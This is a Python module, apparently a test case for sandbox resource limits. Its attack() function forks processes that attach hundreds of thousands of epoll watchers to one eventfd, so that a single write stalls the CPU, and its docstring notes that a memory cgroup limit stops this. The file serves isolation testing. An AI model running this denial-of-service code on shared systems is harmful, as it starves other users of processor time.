"""Have one write wake a million watchers.

Technique: one eventfd is watched by hundreds of epoll instances, by each through hundreds of descriptors. A single write goes
    through all of them with interrupts off: for so long the processor does nothing for anybody.
    300,000 watchers make it 90 ms: what bounds it is the memory that they take.
Success: the watchers would take twice the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
"""
import select
import time

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
EPOLLET = 1 << 31
# A watcher is an object of 128 bytes and one of 64.
WATCHER_BYTES = 192
PROCESSES, EPOLLS, DESCRIPTORS = 120, 14, 900


def attack():
    event = libc.eventfd(0, os.O_NONBLOCK)
    watched = [event] + [os.dup(event) for _ in range(DESCRIPTORS)]
    reading, writing = os.pipe()
    watchers = 0
    for _ in range(PROCESSES):
        if os.fork() == 0:
            kept, count = [select.epoll() for _ in range(EPOLLS)], 0
            try:
                for one in kept:
                    for descriptor in watched:
                        one.register(descriptor, select.EPOLLIN | EPOLLET)
                        count += 1
            except OSError:
                pass
            os.write(writing, count.to_bytes(8, "little"))
            libc.pause()
        watchers += int.from_bytes(os.read(reading, 8), "little")
        if watchers * WATCHER_BYTES > 2 * LIMIT:
            break
    took = []
    for _ in range(8):
        begun = time.perf_counter()
        os.write(event, (1).to_bytes(8, "little"))
        took.append(time.perf_counter() - begun)
        os.read(event, 8)
    if watchers * WATCHER_BYTES > 2 * LIMIT:
        # The quickest was disturbed by nobody.
        return f"a write to {watchers} watchers takes {min(took) * 1000:.0f} ms"


def twin():
    """A thousand tasks wait for one event."""
    import asyncio

    async def wait_for_it():
        event = asyncio.Event()
        tasks = [asyncio.create_task(event.wait()) for _ in range(1000)]
        await asyncio.sleep(0)
        event.set()
        return await asyncio.gather(*tasks)

    assert asyncio.run(wait_for_it()) == [True] * 1000
